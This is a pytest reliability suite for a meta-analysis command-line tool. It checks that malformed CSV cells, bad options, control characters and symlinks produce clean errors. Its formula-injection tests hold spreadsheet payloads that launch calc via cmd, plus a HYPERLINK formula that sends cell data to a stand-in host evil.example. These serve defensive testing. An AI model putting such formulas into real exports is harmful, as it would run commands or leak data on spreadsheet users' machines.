"""Reliability: hostile CSV files, option values and query values (issue 15, audit §2, §3, §7, §10, §12).

Every case is a clean error (exit 2, one line naming the row and column or the option, no
traceback) or a correct result.
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import shutil
import time
from pathlib import Path

import numpy as np
import pytest
from reliability_support import ROOT, assert_clean_error, run

from blinameta.analysis.select import select
from blinameta.evidence.loader import load_evidence

GOOD = "study,yi,vi,region\ns1,0.10,0.04,eu\ns2,0.35,0.09,us\ns3,-0.20,0.05,eu\ns4,0.50,0.12,us\n"


def _csv(tmp_path: Path, text: str, name: str = "data.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _pool(capsys, path, *extra):
    return run(capsys, ["pool", path, "--yi", "yi", "--vi", "vi", *extra])


# ---------------------------------------------------------------------------------------------
# numbers in CSV cells: ASCII decimals only, within a range a fit can weigh

CELL_CASES = {
    "digit separator": ("0.35,0.09", "1_0,0.09", "row 3, column 'yi': '1_0' is not a number"),
    "Arabic-Indic digits": ("0.35,0.09", "\u0661\u0660,0.09", "row 3, column 'yi'"),
    "full-width digits": ("0.35,0.09", "\uff11\uff10,0.09", "row 3, column 'yi'"),
    "NaN": ("0.35,0.09", "nan,0.09", "row 3, column 'yi'"),
    "infinity": ("0.35,0.09", "0.35,inf", "row 3, column 'vi'"),
    "tiny variance": ("0.35,0.09", "0.35,1e-300", "row 3, column 'vi': variance 1e-300 is out of range"),
    "huge values": ("0.35,0.09", "1e300,1e300", "row 3, column 'yi': 1e+300 is out of range"),
    "zero variance": ("0.35,0.09", "0.35,0", "row 3, column 'vi'"),
    "ANSI escape in a label": ("s2,", "s2\x1b[31m,", "row 3, column 'study': U+001B"),
}


@pytest.mark.parametrize("command", ["pool", "bayes"])
@pytest.mark.parametrize("case", sorted(CELL_CASES))
def test_bad_cells_are_clean_errors(tmp_path, capsys, case, command):
    old, new, message = CELL_CASES[case]
    path = _csv(tmp_path, GOOD.replace(old, new, 1))
    args = [command, path, "--yi", "yi", "--vi", "vi"] + (["--exact", "--study", "study"] if command == "bayes" else [])
    if command == "pool" and "label" in case:
        args = ["bayes", path, "--yi", "yi", "--vi", "vi", "--exact", "--study", "study"]
    status, out, err = run(capsys, args)
    assert_clean_error(status, err, message)
    assert "\x1b" not in out + err


def test_a_cell_larger_than_the_csv_field_limit(tmp_path, capsys):
    path = _csv(tmp_path, GOOD.replace("s2,", "s" + "x" * (csv.field_size_limit() + 10) + ",", 1))
    status, _, err = _pool(capsys, path)
    assert_clean_error(status, err, "row 3: field larger than field limit")


@pytest.mark.parametrize("kind", ["folder", "fifo", "dev_zero"])
def test_a_csv_that_is_not_a_regular_file(tmp_path, capsys, kind):
    path = tmp_path / "data.csv"
    if kind == "folder":
        path.mkdir()
    elif kind == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    start = time.monotonic()
    status, _, err = run(capsys, ["pool", path, "--yi", "yi", "--vi", "vi"])
    assert status == 2 and "Traceback" not in err
    assert time.monotonic() - start < 10


# ---------------------------------------------------------------------------------------------
# options

OPTION_CASES = {
    "negative seed": (["--mods", "region", "--permutations", "100", "--seed", "-1"], "--seed"),
    "huge seed": (["--mods", "region", "--permutations", "100", "--seed", str(2**64)], "--seed"),
    "huge permutations": (["--mods", "region", "--permutations", str(10**12)], "--permutations"),
    "level NaN": (["--level", "nan"], "--level"),
    "level 0": (["--level", "0"], "--level"),
    "level 100": (["--level", "100"], "--level"),
    "level above 100": (["--level", "150"], "--level"),
}


@pytest.mark.parametrize("case", sorted(OPTION_CASES))
def test_bad_pool_options_are_clean_errors(tmp_path, capsys, case):
    extra, option = OPTION_CASES[case]
    status, _, err = _pool(capsys, _csv(tmp_path, GOOD), *extra)
    assert_clean_error(status, err, option)


def test_a_constant_moderator_is_reported_not_tested(tmp_path, capsys):
    path = _csv(tmp_path, GOOD.replace(",eu\n", ",1\n").replace(",us\n", ",1\n"))
    status, out, err = _pool(capsys, path, "--mods", "region")
    assert_clean_error(status, err, "--mods region: the moderator is constant")
    assert "Test of Moderators" not in out


def test_a_collinear_moderator_is_reported(tmp_path, capsys):
    text = "yi,vi,a,b\n" + "".join(f"{y},{v},{a},{2 * a + 1}\n" for y, v, a in
                                   [(0.1, 0.04, 1), (0.3, 0.05, 2), (0.2, 0.06, 3), (0.5, 0.07, 4), (0.4, 0.05, 5)])
    status, _, err = _pool(capsys, _csv(tmp_path, text), "--mods", "a,b")
    assert_clean_error(status, err, "--mods b: the moderator is collinear with the intercept, a")


def test_bayes_draws_and_chains_are_bounded(tmp_path, capsys):
    path = _csv(tmp_path, GOOD)
    for extra in (["--draws", str(10**12)], ["--chains", "100000"], ["--seed", "-1"]):
        status, _, err = run(capsys, ["bayes", path, "--yi", "yi", "--vi", "vi", *extra])
        assert_clean_error(status, err, extra[0])


def test_many_studies_pool_answers_and_exact_refuses_beyond_its_limit(tmp_path, capsys):
    rng = np.random.default_rng(3)
    k = 30_000
    v = rng.uniform(0.02, 0.5, k)
    y = rng.normal(0.2, np.sqrt(v + 0.1))
    path = _csv(tmp_path, "yi,vi\n" + "".join(f"{a:.5f},{b:.5f}\n" for a, b in zip(y, v)))
    status, out, err = _pool(capsys, path, "--method", "PM", "--json")
    assert status == 0, err
    result = json.loads(out)
    assert result["k"] == k and abs(result["tau2"] - 0.1) < 0.02 and result["tau2_ci_lb"] < result["tau2_ci_ub"]
    status, _, err = run(capsys, ["bayes", path, "--yi", "yi", "--vi", "vi", "--exact"])
    assert_clean_error(status, err, "at most 20,000 studies")


# ---------------------------------------------------------------------------------------------
# query values and `new`


def test_query_refuses_an_absurd_trial_size(capsys):
    status, _, err = run(capsys, ["query", "--outcome", "cr", "--n", str(10**30), "--responses", "1"])
    assert_clean_error(status, err, "--n")


@pytest.mark.parametrize("where, message", [
    ("study_id=xie2032", "--where study_id='xie2032': no such value in the evidence; valid: "),
    ("treatment=blinatumomabb", "no such value in the evidence"),
    ("blast_burden=ge5\u202e", "\\u202e"),
    ("nosuch\x1b[2J=1", "\\x1b[2J"),
])
def test_query_filters_are_checked_against_the_evidence(capsys, where, message):
    status, out, err = run(capsys, ["query", "--outcome", "cr", "--where", where])
    assert_clean_error(status, err, message)
    assert "\x1b" not in err and "\u202e" not in err


@pytest.mark.parametrize("publication_id", ["zz2099\n", "zz2099\u202e", "zz\x1b[31m2099", "Zz2099", "zz 2099"])
def test_new_refuses_ids_outside_the_pattern_and_never_echoes_them_raw(tmp_path, capsys, folder_digest, publication_id):
    shutil.copy(ROOT / "evidence" / "review.yaml", tmp_path / "review.yaml")
    before = folder_digest(tmp_path)
    status, out, err = run(capsys, ["new", publication_id, "--evidence", tmp_path])
    assert_clean_error(status, err, "is not a valid publication id")
    assert "\x1b" not in err and "\u202e" not in err and "\n" not in err.rstrip("\n")
    assert folder_digest(tmp_path) == before


def test_new_does_not_follow_a_dangling_symlink(tmp_path, capsys):
    shutil.copy(ROOT / "evidence" / "review.yaml", tmp_path / "review.yaml")
    (tmp_path / "zz2099.yaml").symlink_to("/nowhere/zz2099.yaml")
    status, _, err = run(capsys, ["new", "zz2099", "--evidence", tmp_path])
    assert_clean_error(status, err, "already exists; not overwritten")
    assert (tmp_path / "zz2099.yaml").is_symlink() and not Path("/nowhere/zz2099.yaml").exists()


# ---------------------------------------------------------------------------------------------
# CSV formula injection in `table --format csv`

PAYLOADS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1) 20 patients",
            '=HYPERLINK("http://evil.example/?"&A1,"click") A', "\tTAB lead", "\rCR lead"]


def test_table_csv_neutralises_formulas_and_keeps_numbers(tmp_path, capsys):
    evidence = tmp_path / "evidence"
    evidence.mkdir()
    shutil.copy(ROOT / "evidence" / "review.yaml", evidence / "review.yaml")
    base = (ROOT / "tests" / "report_cases" / "newcohort2025.yaml").read_text()
    text = base.replace("label: All treated", f"label: {json.dumps(PAYLOADS[0])}")
    text = text.replace("title: A new cohort", f"title: {json.dumps(PAYLOADS[4])}")
    text = text.replace("first_author: Newman N", f"first_author: {json.dumps(PAYLOADS[1])}")
    text = text.replace("population: Children with relapsed B-ALL.", f"population: {json.dumps(PAYLOADS[3])}")
    text = text.replace("method: synthetic test cohort}\noutcomes", f"method: {json.dumps(PAYLOADS[2])}}}\noutcomes")
    (evidence / "newcohort2025.yaml").write_text(text)
    status, out, err = run(capsys, ["table", "--evidence", evidence])
    assert status == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    cells = [c for row in rows[1:] for c in row]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[1] in cells
    header = rows[0]
    assert rows[1][header.index("events")] == "4" and rows[1][header.index("total")] == "20"
    status, raw, _ = run(capsys, ["table", "--evidence", evidence, "--no-formula-escape"])
    assert PAYLOADS[0] in raw and "'" + PAYLOADS[0] not in raw


def test_negative_numbers_stay_numbers_in_csv():
    import pandas as pd

    from blinameta.csvinput import neutralise_formulas

    frame = pd.DataFrame({"logit": [-1.25, 0.5], "label": ["-1.25 logit", "plain"]})
    out = neutralise_formulas(frame).to_csv(index=False)
    assert out.splitlines()[1:] == ["-1.25,'-1.25 logit", "0.5,plain"]


# ---------------------------------------------------------------------------------------------
# labels: eleven and more publications with the same author and year


def test_eleven_or_more_same_author_year_labels_extend_beyond_j(tmp_path):
    evidence = tmp_path / "evidence"
    evidence.mkdir()
    shutil.copy(ROOT / "evidence" / "review.yaml", evidence / "review.yaml")
    base = (ROOT / "tests" / "report_cases" / "newcohort2025.yaml").read_text()
    for i in range(30):
        pid = f"same2025_{i:02d}"
        (evidence / f"{pid}.yaml").write_text(base.replace("newcohort2025", pid))
    ev = load_evidence(evidence)
    assert not [p for p in ev.problems if p.severity == "error"]
    from blinameta.analysis.spec import AnalysisSpec

    spec = AnalysisSpec.model_validate({"id": "crs_any", "title": "CRS", "outcome": "crs_any"})
    labels = list(select(ev, spec).rows["label"])
    assert len(labels) == 30 and len(set(labels)) == 30
    assert labels[0] == "Newman 2025a" and labels[9] == "Newman 2025j"
    assert labels[10] == "Newman 2025k" and labels[25] == "Newman 2025z" and labels[26] == "Newman 2025aa"
    assert all(math.isfinite(len(x)) for x in labels)


# ---------------------------------------------------------------------------------------------
# nothing a user typed reaches the terminal with its control characters


def test_an_unknown_option_with_an_ansi_escape_is_echoed_escaped(capsys):
    status, out, err = run(capsys, ["--\x1b[31mx"])
    assert status == 2 and "\x1b" not in out + err and "\\x1b[31mx" in err


def test_validate_escapes_control_characters_in_keys_and_file_names(tmp_path, capsys):
    shutil.copy(ROOT / "evidence" / "review.yaml", tmp_path / "review.yaml")
    (tmp_path / "zz.yaml").write_text('id: zz\n"a\\e[31mb": 1\n')
    (tmp_path / "z\x1bz.yaml").write_text("id: zz\n")
    status, out, err = run(capsys, ["validate", "--no-sources", tmp_path])
    assert status == 2 and "\x1b" not in out + err
    assert "zz.yaml:2: error: a\\x1b[31mb: U+001B" in out and "z\\x1bz.yaml: error: file name" in out
